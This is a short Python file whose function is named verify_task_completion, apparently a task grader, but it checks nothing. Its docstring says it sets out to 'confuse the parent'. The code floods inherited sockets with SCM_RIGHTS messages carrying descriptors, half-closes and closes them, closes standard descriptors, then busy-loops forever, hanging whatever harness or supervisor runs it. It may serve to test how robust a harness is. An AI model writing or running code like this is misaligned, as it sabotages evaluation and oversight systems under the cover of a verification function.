"""Confuse the parent through the socket to it: pass it descriptors, half-close it, close it and stay."""

import array
import os
import socket


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    for descriptor in range(3, 64):
        try:
            link = socket.socket(fileno=descriptor)
            link.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 100))])
            link.shutdown(socket.SHUT_RDWR)
            link.close()
        except OSError:
            continue
    os.closerange(0, 64)
    while True:
        pass
